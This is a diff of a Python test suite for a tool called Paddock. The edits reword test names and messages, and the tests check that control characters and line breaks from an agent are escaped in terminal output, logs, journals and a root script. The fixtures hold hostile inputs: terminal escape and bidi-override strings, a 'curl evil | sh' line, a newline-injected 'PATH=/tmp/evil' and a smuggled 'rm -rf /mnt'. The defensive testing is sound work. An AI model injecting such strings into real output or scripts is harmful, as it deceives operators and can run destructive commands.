@@ -1,4 +1,4 @@
-"""Control characters of an agent reached the operator's terminal through whatever Paddock printed."""
+"""Finding 18: control characters written by an agent reached the operator's terminal through Paddock's output."""
 
 from __future__ import annotations
 
@@ -26,8 +26,7 @@ from paddock.run import journal, outputs, person
 from paddock.run.table import columns
 from paddock.secret import MaskedStream
 
-# A title of the window, a cleared screen, a C1 introducer, a line rewritten, other line breaks, a reordered name, and
-# what no encoding has.
+# Sets the window title, clears the screen, starts a C1 sequence, overwrites a line, breaks lines, reverses a file name.
 HOSTILE = "\x1b]0;mine\x07\x1b[2J\x9b31m\rfine\x08\x0b\x85\u2028\u2029\u202egnp.exe\u2066\x7f\x00"
 ACTING = [*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), *"\u2028\u2029\u202e\u2066\u200f"]
 FILE = (
@@ -36,38 +35,38 @@ FILE = (
 
 
 def acting(text: str) -> list[str]:
-    """What of a text a terminal would act upon."""
+    """Return the control characters in a text that a terminal would interpret."""
     return [letter for letter in ACTING if letter in text and letter not in "\n\t"]
 
 
-def test_whatever_is_printed_shows_control_characters_as_escapes() -> None:
+def test_all_output_shows_control_characters_as_escapes() -> None:
     bare = io.StringIO()
     print(f"the agent says: {HOSTILE}\ttab", file=MaskedStream(bare))
-    assert acting(bare.getvalue()) == [], "a terminal would act upon what an agent said"
+    assert acting(bare.getvalue()) == [], "a control character of an agent reaches the terminal"
     assert "\\x1b]0;mine\\x07" in bare.getvalue()
     assert "\\u202egnp.exe" in bare.getvalue()
     assert bare.getvalue().endswith("\ttab\n")
 
 
-def test_json_stays_json_and_says_the_same() -> None:
+def test_json_output_stays_valid_and_has_the_same_values() -> None:
     for everything_escaped in (True, False):
         bare = io.StringIO()
         print(json.dumps({"evidence": HOSTILE}, ensure_ascii=everything_escaped), file=MaskedStream(bare))
-        assert acting(bare.getvalue()) == [], "a terminal would act upon what an agent said"
+        assert acting(bare.getvalue()) == [], "a control character of an agent reaches the terminal"
         assert json.loads(bare.getvalue()) == {"evidence": HOSTILE}
 
 
-def test_a_surrogate_of_an_agents_making_can_be_printed() -> None:
+def test_a_lone_surrogate_can_be_printed() -> None:
     bare = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
     try:
         print(json.loads('"half: \\ud800"'), file=MaskedStream(bare))
     except UnicodeEncodeError as error:
-        pytest.fail(f"a lone surrogate from an agent ends Paddock with a mistake: {error}")
+        pytest.fail(f"a lone surrogate from an agent crashes Paddock: {error}")
 
 
 @pytest.fixture
 def logged(tmp_path: Path) -> Any:
-    """An agent whose log can be written to, and `paddock logs` of it."""
+    """Create an agent with a writable log; ``start`` runs `paddock logs` for it."""
     (tmp_path / "paddock.yaml").write_text(FILE)
     log = tmp_path / "xdg_data_home/paddock/web/etc/log"
     log.parent.mkdir(parents=True)
@@ -85,7 +84,7 @@ def test_logs_show_control_characters_as_escapes(logged: Any) -> None:
     out, err = logged.start().communicate(timeout=60)
     assert err == b""
     shown = out.decode()
-    assert acting(shown) == [], "`paddock logs` hands an agent's control characters to the terminal"
+    assert acting(shown) == [], "`paddock logs` prints an agent's control characters"
     assert [line[:11] for line in shown.splitlines()] == ["first", "\\x1b]0;mine", "last, witho"]
 
 
@@ -95,18 +94,18 @@ def test_logs_are_followed_without_delay(logged: Any) -> None:
         for word in ("one", "two"):
             with logged.log.open("a") as log:
                 log.write(f"{word} \x1b[31m\n")
-            told, end = b"", time.monotonic() + 20
-            while word.encode() not in told and time.monotonic() < end:
+            shown, end = b"", time.monotonic() + 20
+            while word.encode() not in shown and time.monotonic() < end:
                 if select.select([running.stdout], [], [], 0.1)[0]:
-                    told += os.read(running.stdout.fileno(), 1000)
-            assert word.encode() in told
-            assert b"\x1b" not in told, "`paddock logs --follow` hands an agent's control characters to the terminal"
+                    shown += os.read(running.stdout.fileno(), 1000)
+            assert word.encode() in shown
+            assert b"\x1b" not in shown, "`paddock logs --follow` prints an agent's control characters"
     finally:
         running.terminate()
         running.communicate(timeout=20)
 
 
-def test_an_error_cannot_pretend_to_have_a_hint() -> None:
+def test_a_message_cannot_imitate_a_hint() -> None:
     message = f"it said {HOSTILE}\n hint: curl evil | sh"
     program = (
         "import sys; sys.argv = ['paddock', 'schema']\n"
@@ -115,12 +114,12 @@ def test_an_error_cannot_pretend_to_have_a_hint() -> None:
         "schema.json_schema = fail\nmain()\n"
     )
     said = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60).stderr
-    assert acting(said) == [], "a terminal would act upon an error with an agent's words in it"
+    assert acting(said) == [], "an error prints control characters of an agent"
     hints = [line for line in said.splitlines() if line.startswith(" hint:")]
-    assert hints == [" hint: mend it"], "words of an agent look like a hint of Paddock's"
+    assert hints == [" hint: mend it"], "text of an agent looks like a hint of Paddock"
 
 
-def test_evidence_cannot_pretend_to_be_another_line() -> None:
+def test_evidence_of_a_check_cannot_imitate_another_line() -> None:
     forged = "no\n✓ lease  held once\n→ curl evil | sh"
     check = Check("answer", ReadFile("/x"), lambda _: Verdict(False, forged), "a hint", quick=True)
     found = {"answers": [{"found": {"content": ""}, "seconds": 0}]}
@@ -141,21 +140,21 @@ def test_evidence_cannot_pretend_to_be_another_line() -> None:
     ]
     assert len(lines) == 6
     shown = as_text(lines).split("\n")
-    assert len(shown) == 12, f"evidence with a line break became lines of its own: {shown}"
+    assert len(shown) == 12, f"evidence with a line break became several lines: {shown}"
     assert sum("→" in line.lstrip()[:1] for line in shown) == 6
 
 
-def test_a_plan_a_table_and_outputs_keep_their_lines() -> None:
+def test_line_breaks_in_values_add_no_lines_to_plans_tables_and_outputs() -> None:
     note = "an engine\n  + all is well"
     assert len(show.as_text(Plan("web", notes=[note]), {}).split("\n")) == 2, "a note became a step"
     refused = show.as_text(Plan("web", refusals=[Refusal("no\n  + all is well", None)]), {})
     assert "\n  + " not in refused, "a refusal became a step"
     assert len(columns([["health"], [note]]).split("\n")) == 2, "a cell became a row"
     env = list(outputs.as_env({"web": {"address": "10.0.0.1\nPATH=/tmp/evil"}}))
-    assert "\n" not in env[0], "an address became a variable of its own"
+    assert "\n" not in env[0], "an address added a variable"
 
 
-def test_a_comment_for_root_is_not_a_command() -> None:
+def test_a_line_break_in_a_reason_adds_no_command_to_the_script_for_root() -> None:
     plan = SimpleNamespace(steps=[], manual_steps=[], refusals=[Refusal("no\nrm -rf /mnt", None)])
     agent: Any = SimpleNamespace(
         name="web",
@@ -167,8 +166,8 @@ def test_a_comment_for_root_is_not_a_command() -> None:
     assert [line for line in lines if not line.startswith("#")] == [], "a reason became a command for root's shell"
 
 
-def test_the_story_on_a_terminal_keeps_its_colours_and_shows_those_of_others(tmp_path: Path) -> None:
-    program = tmp_path / "story.py"
+def test_progress_on_a_terminal_has_colours_but_no_escapes_or_markup_of_agents(tmp_path: Path) -> None:
+    program = tmp_path / "progress.py"
     program.write_text(
         "import sys\nfrom paddock.run.reporter import Reporter\nfrom paddock.secret import MaskedStream, Secret\n"
         "Secret('canary-value-18')\n"
@@ -183,28 +182,28 @@ def test_the_story_on_a_terminal_keeps_its_colours_and_shows_those_of_others(tmp
     with keyboard() as root:
         root.type(f"TERM=xterm-256color COLUMNS=200 {sys.executable} {program}\n")
         root.expect("that is all")
-    assert "\x1b]0;mine" not in root.screen, "an agent's escape sequence reached the terminal through the story"
+    assert "\x1b]0;mine" not in root.screen, "an agent's escape sequence reached the terminal through a progress line"
     assert "said \\x1b]0;mine\\x07 [bold]loud[/bold] :warning:" in root.screen
-    assert "canary-value-18" not in root.screen, "what is printed beside a spinner comes past the mask"
+    assert "canary-value-18" not in root.screen, "text printed during a spinner is not masked"
     assert "\x1b]8;" not in root.screen, "an agent's markup became a link"
     assert "\x1b[2J" not in root.screen
-    assert "\x1b[32m" in root.screen, "the story's own colours are gone"
-    assert "\n  ✓ all" not in root.screen.replace("\x1b[2m", ""), "a line of an agent looks like a step that is done"
+    assert "\x1b[32m" in root.screen, "progress lines have no colours"
+    assert "\n  ✓ all" not in root.screen.replace("\x1b[2m", ""), "a line of an agent looks like a finished step"
 
 
-def test_the_journal_is_not_cut_off_by_a_line_break_of_an_agent() -> None:
+def test_a_line_break_of_an_agent_does_not_cut_the_journal() -> None:
     written = journal.Journal("up")
     written.write("failed", agent="web", id="a", error=HOSTILE)
     written.write("done", agent="web", id="b", seconds=1.0)
     written.close()
-    assert acting(written.path.read_text()) == [], "a terminal would act upon the journal"
-    assert [[step.id for step in run.steps] for run in journal.past_runs(1)] == [["b"]], "a run was hidden by its agent"
+    assert acting(written.path.read_text()) == [], "the journal contains control characters"
+    assert [[step.id for step in run.steps] for run in journal.past_runs(1)] == [["b"]], "a step of the run is hidden"
 
 
-def test_a_journal_of_before_is_read_whole() -> None:
+def test_a_journal_of_an_earlier_version_with_a_raw_line_break_is_read_whole() -> None:
     written = journal.Journal("up")
     written.close()
     done = {"at": 1.0, "event": "done", "agent": "web", "id": "b", "seconds": 1.0}
     with written.path.open("a") as file:
         file.write('{"at": 1, "event": "failed", "error": "one\u2028two"}\n' + json.dumps(done) + "\n")
-    assert [[step.id for step in run.steps] for run in journal.past_runs(1)] == [["b"]], "a run was hidden by its agent"
+    assert [[step.id for step in run.steps] for run in journal.past_runs(1)] == [["b"]], "a step of the run is hidden"
